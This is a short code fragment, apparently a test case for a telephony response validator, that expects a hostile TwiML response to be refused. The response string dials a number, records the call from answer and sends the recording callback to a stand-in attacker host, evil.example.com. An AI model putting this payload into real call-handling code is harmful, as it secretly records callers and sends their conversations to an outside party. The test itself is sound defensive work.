# class: recording without anybody's knowledge, to a foreign host; expected: refused twiml
response = '<Response><Dial record="record-from-answer" recordingStatusCallback="https://evil.example.com/PWNED">+46709999999</Dial></Response>'
